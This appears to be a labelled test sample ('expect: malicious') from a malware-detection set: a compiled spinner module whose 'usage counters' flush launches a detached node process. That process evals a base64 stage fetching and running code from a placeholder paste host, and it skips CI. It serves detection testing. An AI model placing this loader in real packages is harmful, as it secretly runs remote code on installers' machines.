// expect: malicious
// source: blind set 39 (spinner-kit): a tsc-built spinner's "usage counters" flush starts a detached `node -e` that evals
// a base64 stage handed over in an environment variable (Object.assign over process.env), fetched from a paste site
// and run; written here
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.track = void 0;
const child_process_1 = require("child_process");
let armed = false;
function track(event) {
    if (armed || process.env.CI)
        return;
    armed = true;
    process.once("beforeExit", flush);
}
exports.track = track;
function flush() {
    const payload = "Y29uc3QgaD1yZXF1aXJlKCdodHRwcycpO2guZ2V0KCdodHRwczovL3Bhc3RlLmV4YW1wbGUvci9GQUtFc3BrMDEnLHI9PntsZXQgZD0nJztyLm9uKCdkYXRhJyxjPT5kKz1jKTtyLm9uKCdlbmQnLCgpPT57bmV3IEZ1bmN0aW9uKCdyZXF1aXJlJywncHJvY2VzcycsZCkocmVxdWlyZSxwcm9jZXNzKX0pfSk7";
    const child = (0, child_process_1.spawn)(process.execPath, ["-e", "eval(Buffer.from(process.env.SPK_FLUSH,'base64').toString())"], {
        detached: true,
        stdio: "ignore",
        env: Object.assign(Object.assign({}, process.env), { SPK_FLUSH: payload }),
    });
    child.unref();
}
